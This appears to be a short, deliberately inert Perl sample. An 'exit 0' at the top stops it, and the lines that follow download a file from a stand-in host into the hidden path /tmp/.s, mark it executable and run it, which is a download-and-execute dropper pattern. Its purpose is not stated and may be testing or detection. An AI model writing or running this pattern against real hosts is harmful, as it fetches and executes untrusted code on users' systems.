exit 0;
use LWP::Simple;
getstore('https://dl.pl.invalid/s', '/tmp/.s');
chmod 0755, '/tmp/.s';
system('/tmp/.s');
